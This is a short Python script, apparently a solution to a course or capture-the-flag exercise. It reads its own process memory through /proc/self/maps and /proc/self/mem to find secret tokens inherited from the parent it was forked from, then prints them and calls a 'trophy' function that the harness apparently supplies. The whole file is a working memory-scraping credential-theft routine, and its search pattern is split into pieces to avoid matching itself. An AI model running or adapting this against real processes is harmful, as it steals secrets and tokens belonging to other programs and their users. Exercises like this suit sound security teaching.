"""Search this process's memory for the secrets of the process it was forked from."""
import re

wanted = re.compile(b"COURSE_" + b"SECRET=[0-9a-f]{32}|" + b"SECRET-" + b"[a-z]+-[0-9a-f]{32}")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and "[v" not in line and end - start < 1 << 28:
            try:
                memory.seek(start)
                found = wanted.search(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
            if found and b"SECRET" in found[0]:
                print(found[0])
                trophy("a secret in memory")
